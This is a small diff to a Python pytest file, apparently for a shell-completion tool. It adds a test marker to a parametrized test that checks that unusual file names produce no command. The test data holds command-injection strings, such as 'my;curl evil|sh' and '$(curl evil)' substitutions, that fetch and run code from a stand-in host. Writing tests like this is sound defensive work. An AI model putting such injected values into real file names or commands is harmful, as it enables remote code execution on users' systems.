@@ -60,6 +60,7 @@ def test_bash(line: str, expected: list[str], folder: Path, record: Record) -> N
     assert completed(line, folder) == expected
 
 
+@pytest.mark.rest
 @pytest.mark.parametrize("name", ["my;curl evil|sh", "my$(curl evil)", "my`curl evil`", "my\nfile,evil", "my\x1b[31m"])
 def test_names_of_strangers_write_no_command(name: str, folder: Path, record: Record) -> None:
     make_task(folder / "task_data")
